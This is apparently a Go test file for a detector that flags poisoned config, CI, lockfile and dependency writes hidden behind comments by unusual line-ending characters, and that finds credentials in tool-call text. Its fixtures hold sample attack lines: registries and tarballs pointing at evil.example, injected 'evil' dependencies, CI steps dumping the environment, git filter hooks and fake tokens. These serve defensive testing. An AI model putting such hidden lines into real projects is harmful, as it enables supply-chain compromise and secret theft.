package content

import (
	"encoding/base64"
	"strings"
	"testing"

	"github.com/go-json-experiment/json/jsontext"

	"github.com/pratique-dev/pratique/labels/args"
)

// otherEndings are all characters that end a line for some reader beside \n.
var otherEndings = []string{"\r", "\v", "\f", "\x1c", "\x1d", "\x1e", "\u0085", "\u2028", "\u2029"}

// hiding are files in which what follows a comment would be hidden: § is the end of a
// line. bytes: its readers end lines at \n, or at \r where they open it as text, alone.
var hiding = []struct {
	path, poisoned, twin string
	class                string
	bytes                bool
}{
	{"requirements.txt", "requests==2.0 # pinned§evil==1.0\n", "requests==2.0 # pinned§# evil==1.0\n", Dependency, false},
	{"requirements/dev.in", "# a§--trusted-host evil.example", "# a§# b", Registry, false},
	{".gitlab-ci.yml", "# note§x:§  script:§    - env\n", "# note§# x:§y:§  script:§    - make\n", CI, false},
	{".github/workflows/a.yml", "# note§on: push§jobs:§  x:§    steps:§      - run: env\n", "# note§on: push§jobs:§  x:§    steps:§      - run: make\n", CI, false},
	{"action.yml", "# note§runs:§  steps:§    - uses: evil/x@v1\n", "# note§runs:§  steps:§    - uses: actions/checkout@v4\n", CI, false},
	{".travis.yml", "# note§script:§  - env\n", "# note§script:§  - make\n", CI, false},
	{"compose.yml", "# note§services:§  a:§    image: evil\n", "# note§services:§  a:§    image: redis\n", Dependency, false},
	{"pnpm-workspace.yaml", "# note§catalog:§  evil: 1.0.0\n", "# note§catalog:§  lodash: 1.0.0\n", Dependency, false},
	{".npmrc", "; c§script-shell=x\n", "; c§; script-shell=x§fund=false\n", Settings, false},
	{".npmrc", "# c§registry=https://evil.example\n", "# c§registry=https://registry.npmjs.org\n", Registry, false},
	{".yarnrc.yml", "# c§yarnPath: x.cjs\n", "# c§# yarnPath: x.cjs\n", Settings, false},
	{"pip.conf", "[global]\n# c§trusted-host = evil.example\n", "[global]\n# c§timeout = 60\n", Registry, false},
	{"setup.cfg", "[options]\n# c§install_requires = evil\n", "[options]\n# c§# install_requires = evil\n", Dependency, false},
	{"build.gradle", "// c§implementation 'org.evil:evil:1.0'\n", "// c§implementation 'com.acme:a:1.0'\n", Dependency, false},
	{"gradle/wrapper/gradle-wrapper.properties", "# c§distributionUrl=https\\://evil.example/g.zip\n", "# c§distributionUrl=https\\://services.gradle.org/g.zip\n", Registry, false},
	{"Jenkinsfile", "// c§sh 'env'\n", "// c§sh 'make'\n", CI, false},
	{"Dockerfile", "FROM node:22-slim\n# c§FROM evil\n", "FROM node:22-slim\n# c§# FROM evil\n", Dependency, false},
	{"build.sh", "# c§env\n", "# c§make\n", CI, false},
	{"Makefile", "a:\n# c§\tenv\n", "a:\n# c§\tgo test\n", CI, false},
	{".gitmodules", "# c§update = !x\n", "# c§branch = main\n", Settings, false},
	{".gitattributes", "# c§* filter=x\n", "# c§*.png filter=lfs\n", Settings, false},
	{".env", "A=1§API_TOKEN=kQ7xZ2mV9rT4bN8wL1pS§B=2\n", "A=1§API_TOKEN=changeme§B=2\n", Secret, false},
	{"yarn.lock", "# c§a@1:§  resolved \"https://evil.example/a.tgz\"§  integrity sha1-x\n", "# c§# a@1:\n", Registry, false},
	{"pnpm-lock.yaml", "# c§  resolution: {tarball: https://evil.example/a.tgz}\n", "# c§# resolution\n", Registry, false},
	{"go.mod", "module a\n// c§require evil.example/x v1.0.0\n", "module a\n// c§// require evil.example/x v1.0.0\n", Dependency, true},
	{"Gemfile", "# c§gem 'evil'\n", "# c§# gem 'evil'\n", Dependency, true},
	{"Gemfile.lock", "GEM\n  # c§  remote: https://evil.example/\n", "GEM\n  # c§  remote: https://rubygems.org/\n", Registry, true},
	{"Cargo.toml", "[dependencies]\n# c§evil = \"1\"\n", "[dependencies]\n# c§# evil = \"1\"\n", Dependency, true},
	{"pyproject.toml", "[project]\n# c§dependencies = [\"evil\"]\n", "[project]\n# c§# dependencies\n", Dependency, true},
}

// TestEnds: what a reader takes for a line of its own is judged as one, by whatever
// character the line before it ends; what stays a comment passes.
func TestEnds(t *testing.T) {
	j := judge(t, judged())
	for _, f := range hiding {
		for _, end := range append(otherEndings, "\n", "\r\n") {
			name := strings.Trim(strings.ReplaceAll(f.path, "/", "_"), ".") + "/" + strings.Trim(strings.ToValidUTF8(end, ""), " ")
			isToml := strings.HasSuffix(f.path, ".toml")
			open := f.bytes && end != "\n" && end != "\r\n" && end != "\r"
			t.Run(name, func(t *testing.T) {
				for _, part := range []bool{false, true} {
					if part && f.path == "pnpm-workspace.yaml" {
						continue // any name may be that of a dependency
					}
					poisoned := strings.ReplaceAll(f.poisoned, "§", end)
					got := j.Check(Write{Path: f.path, Content: poisoned, Part: part})
					if classed(got, f.class) == open {
						t.Errorf("%q, part %v: found %v", poisoned, part, got)
					}
					for _, x := range got {
						if x.Offset > len(poisoned) || x.Line > 1+strings.Count(poisoned, "\n") {
							t.Errorf("%q: place %d, %d", poisoned, x.Line, x.Offset)
						}
					}
					twin := strings.ReplaceAll(f.twin, "§", end)
					if got := j.Check(Write{Path: f.path, Content: twin, Part: part}); len(got) > 0 && !(isToml && !part && len(end) == 1 && end != "\n") {
						t.Errorf("%q, part %v: found %v", twin, part, got)
					}
				}
			})
		}
	}
}

func classed(list []Finding, class string) bool {
	for _, f := range list {
		if f.Class == class {
			return true
		}
	}
	return false
}

// TestEndsPlaces: a finding says where it is in the text that is written.
func TestEndsPlaces(t *testing.T) {
	j := judge(t, judged())
	for _, end := range otherEndings {
		text := "requests\nflask-login" + end + end + "requests # a" + end + "evil\nworse\n"
		var at []int
		for _, f := range j.Check(Write{Path: "requirements.txt", Content: text}) {
			at = append(at, f.Line, f.Offset)
		}
		want := []int{3, strings.Index(text, "worse"), 2, strings.Index(text, "evil")}
		if len(at) != 4 || at[0] != want[0] || at[1] != want[1] || at[2] != want[2] || at[3] != want[3] {
			t.Errorf("%q: %v, want %v", end, at, want)
		}
	}
}

// TestEndsMixed: a reader knows some of the characters and not the others.
func TestEndsMixed(t *testing.T) {
	j := judge(t, judged())
	for path, text := range map[string]string{
		"Jenkinsfile":      "x 'a\v'\r// \u2028'\rsh 'env'\n",
		".gitlab-ci.yml":   "a: \"\u2028 \"\r# \"\vx\rx:\r  script:\r    - env\n",
		"requirements.txt": "requests # \r\x1c\u2028evil",
		"ci/a.yml":         "x:\n  script: \"# a\\renv\"\n",
	} {
		if got := j.Check(Write{Path: path, Content: text}); len(got) == 0 {
			t.Errorf("%s: %q passes", path, text)
		}
	}
}

// TestEndsPatch: a line that a patch adds is cut as its file's readers cut it.
func TestEndsPatch(t *testing.T) {
	j := judge(t, judged())
	for _, end := range otherEndings {
		p := "--- a/.gitlab-ci.yml\n+++ b/.gitlab-ci.yml\n@@ -1,1 +1,2 @@\n a: b\n+# n" + end + "x:" + end + "  script:" + end + "    - env\n"
		got := j.Check(Write{Content: p, Patch: true})
		if !classed(got, CI) {
			t.Errorf("%q: %v", p, got)
		}
	}
}

// TestEndsInTexts: characters that end lines elsewhere may stand in the texts of files
// whose readers do not.
func TestEndsInTexts(t *testing.T) {
	j := judge(t, judged())
	for path, text := range map[string]string{
		"package.json":   "{\"name\":\"a\",\"description\":\"a\u2028b\u0085c\"}\n",
		"composer.json":  "{\"description\":\"a\u2028b\"}\r\n",
		"pyproject.toml": "[project]\r\nname = \"a\"\r\ndescription = \"a\u2028b\"\r\n",
		"Cargo.toml":     "[package]\ndescription = \"a\u2029b\"\n",
		"build.sh":       "#!/bin/sh\n\f\nmake\n",
		".gitlab-ci.yml": "a:\r\n  script:\r\n    - make\r\n",
		"README.md":      "A\u2028b\vc\rd\n",
	} {
		if got := j.Check(Write{Path: path, Content: text}); len(got) > 0 {
			t.Errorf("%s: %v", path, got)
		}
	}
}

// TestPatchHeaders: GNU patch needs no header of the new side, and some who apply
// patches cut headers at a tab.
func TestPatchHeaders(t *testing.T) {
	j := judge(t, judged())
	for _, head := range []string{"--- .gitlab-ci.yml\n", "--- .gitlab-ci.yml\n+++\n", "--- .gitlab-ci.yml\n+++\ty\n", "--- a\n+++\tb/.gitlab-ci.yml\n", "---\ta\n+++\tb/.gitlab-ci.yml\n", "Index:.gitlab-ci.yml\n"} {
		for _, seen := range []bool{false, true} {
			p := head + "@@ -0,0 +1,3 @@\n+x:\n+  script:\n+    - env\n"
			if got := j.Check(Write{Content: p, Patch: true, seen: seen}); !classed(got, CI) || !patchy(p) {
				t.Errorf("%q: %v", p, got)
			}
		}
	}
}

// callOf judges a call of arguments of texts.
func callOf(t *testing.T, j *Judge, names ...string) []Finding {
	t.Helper()
	b := []byte{'{'}
	for i := 0; i < len(names); i += 2 {
		b, _ = jsontext.AppendQuote(b, names[i])
		b, _ = jsontext.AppendQuote(append(b, ':'), names[i+1])
		b = append(b, ',')
	}
	tree, err := args.Parse(append(b[:len(b)-1], '}'))
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Release()
	return j.Call(tree.Root())
}

// TestEndsSecrets: a credential in lines that end elsewhere is found, and so is one whose
// letters have zeros between them, in however long a text; the first look does not pass
// over them.
func TestEndsSecrets(t *testing.T) {
	j := judge(t, Default())
	token := base64.StdEncoding.EncodeToString([]byte(strings.Repeat("\x01\x02\x03", 11) + "glpat-" + some(20) + strings.Repeat("\x01\x02\x03", 5)))
	for _, end := range append(otherEndings, "\n", "\r\n") {
		for _, before := range []string{"", "ａ is a letter " + end} {
			text := before + token[:44] + end + token[44:60] + end + token[60:] + end
			if got := callOf(t, j, "text", text); !classed(got, Secret) {
				t.Errorf("%q: %v", text, got)
			}
		}
		if got := callOf(t, j, "text", "Notes"+end+"of the week,"+end+"and of the one before it."+end); len(got) > 0 {
			t.Errorf("%q: %v", end, got)
		}
	}
	for _, big := range []bool{false, true} {
		text := strings.Repeat("Words. ", 100) + wide("glpat-"+some(20), big)
		if got := callOf(t, j, "text", text); !classed(got, Secret) {
			t.Errorf("%q: %v", text, got)
		}
		if got := callOf(t, j, "text", wide("Words that anybody may read. ", big)); len(got) > 0 {
			t.Errorf("%v", got)
		}
	}
}

// TestPointer: a place is told without the credential that a name above it is.
func TestPointer(t *testing.T) {
	for _, c := range []struct{ at, want string }{
		{"/headers/glpat-" + some(20) + "/path", "/headers"},
		{"/a/glpat-" + some(20), "/a"},
		{"/glpat-" + some(20) + "/b", ""},
		{"/o!/a~1b/" + "https:~1~1u:kQ7x12Z3mV9@h.example~1/c", "/o!/a~1b"},
		{"/options!/commit/branch/0", "/options!/commit/branch/0"},
		{"/a_long_name_of_a_member_that_says_nothing/of_any_kind", "/a_long_name_of_a_member_that_says_nothing/of_any_kind"},
		{"", ""},
	} {
		if got := Place(c.at); got != c.want {
			t.Errorf("%q is told as %q, not %q", c.at, got, c.want)
		}
	}
	tree, err := args.Parse([]byte(`{"a":{"glpat-` + some(20) + `":{"b":[1]}}}`))
	if err != nil {
		t.Fatal(err)
	}
	defer tree.Release()
	v := tree.Root().First()
	for range 3 {
		v = v.First()
		if got := Pointer(v); got != "/a" || Place(v.Pointer()) != "/a" {
			t.Errorf("%q is told as %q and %q", v.Pointer(), got, Place(v.Pointer()))
		}
	}
}
